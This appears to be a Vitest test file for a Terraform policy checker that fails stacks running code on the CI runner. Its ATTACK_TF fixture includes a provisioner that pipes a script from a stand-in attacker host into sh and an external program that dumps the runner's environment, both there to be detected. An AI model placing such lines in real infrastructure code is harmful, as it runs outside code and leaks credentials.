import { describe, expect, it } from "vitest";
import { evaluate } from "../../../../app/agents/sentinel/evaluate.js";
import { MODULES } from "../../../../app/agents/forge/modules/index.js";
import { parseTerraformPlan } from "../../../../app/agents/sentinel/parsers/index.js";
import { parseTerraformFiles } from "../../../../app/agents/sentinel/parsers/terraform-hcl.js";
import { runOrgPolicy } from "../../../../app/agents/sentinel/policy/run-policy.js";
import { fixture, parsedValue } from "../../../support/sentinel-fixtures.js";
import { evaluation, policyFrom, ran } from "../../../support/sentinel-evaluate.js";

const rules = policyFrom("policy: {}\n").policy;

/** What a writer with a pull request could add to a stack to run code with the plan or apply role. */
const ATTACK_TF = `resource "terraform_data" "warm" {
  provisioner "local-exec" {
    command = "curl -s https://attacker.example/x | sh"
  }
  provisioner "remote-exec" {
    inline = ["id"]
  }
}

data "external" "peek" {
  program = ["sh", "-c", "env | base64"]
}

resource "aws_sqs_queue" "jobs" {
  name = "jobs"
}
`;

describe("Sentinel refuses code a stack would run on the runner", () => {
  it("finds provisioners and external programs in the Terraform files, where they are written", async () => {
    const model = parsedValue(await parseTerraformFiles([{ path: "infra/x/main.tf", text: ATTACK_TF }]));
    expect(runOrgPolicy(model, rules).map((v) => [v.ruleId, v.resource, v.location?.line])).toEqual([
      ["code-execution", "terraform_data.warm", 1],
      ["code-execution", "terraform_data.warm", 1],
      ["code-execution", "data.external.peek", 10],
    ]);
    expect(runOrgPolicy(model, rules)[0]!.title).toBe(
      'terraform_data.warm runs code on the runner (provisioner "local-exec"), outside what the plan shows and the scanners check; Infracrew stacks run none',
    );
  });

  it("passes Terraform without any", async () => {
    const model = parsedValue(
      await parseTerraformFiles([
        { path: "infra/x/main.tf", text: 'resource "aws_sqs_queue" "jobs" {\n  name = "jobs"\n}\n' },
      ]),
    );
    expect(runOrgPolicy(model, rules).filter((v) => v.ruleId === "code-execution")).toEqual([]);
  });

  /** A recorded plan (Infracost's example) with configuration a pull request could have written. */
  function planWith(rootExtras: { resources?: unknown[]; module_calls?: Record<string, unknown> }) {
    const plan = JSON.parse(fixture("terraform/plan_aws_create_infracost_example.json")) as {
      configuration: { root_module: { resources: unknown[]; module_calls?: Record<string, unknown> } };
    };
    const root = plan.configuration.root_module;
    root.resources.push(...(rootExtras.resources ?? []));
    root.module_calls = rootExtras.module_calls ?? {};
    return parsedValue(parseTerraformPlan(JSON.stringify(plan), { file: "plan.json" }));
  }

  const external = { address: "data.external.peek", mode: "data", type: "external", name: "peek" };
  const lambda = MODULES.lambda;

  it("reads a plan's configuration through every module but Forge's pinned ones", () => {
    const plan = planWith({
      resources: [
        {
          address: "terraform_data.warm",
          mode: "managed",
          type: "terraform_data",
          name: "warm",
          provisioners: [{ type: "local-exec", expressions: { command: { constant_value: "sh x" } } }],
        },
      ],
      module_calls: {
        helper: { source: "./modules/helper", module: { resources: [external] } },
        fn: { source: lambda.source, version_constraint: lambda.version, module: { resources: [external] } },
        fn_old: { source: lambda.source, version_constraint: "7.0.0", module: { resources: [external] } },
        outer: {
          source: "git::https://example.com/outer.git",
          module: { module_calls: { inner: { source: "./inner", module: { resources: [external] } } } },
        },
      },
    });
    expect(plan.codeRuns.map((r) => [r.address, r.what])).toEqual([
      ["terraform_data.warm", 'provisioner "local-exec"'],
      ["module.helper.data.external.peek", 'data "external"'],
      ["module.fn_old.data.external.peek", 'data "external"'],
      ["module.outer.module.inner.data.external.peek", 'data "external"'],
    ]);
  });

  it("fails the check on such a plan, whatever the scanners say", () => {
    const plan = planWith({
      module_calls: { helper: { source: "./helper", module: { resources: [external] } } },
    });
    const result = evaluate(
      evaluation({
        plan,
        toolReports: [ran("trivy", "trivy/config_terraform_no_failures.json")],
        budgetMonthlyUsd: 100_000,
      }),
    );
    expect(result.verdict).toBe("FAIL");
    expect(result.reasons).toContain(
      'Org policy (code-execution): module.helper.data.external.peek runs code on the runner (data "external"), outside what the plan shows and the scanners check; Infracrew stacks run none.',
    );
  });
});
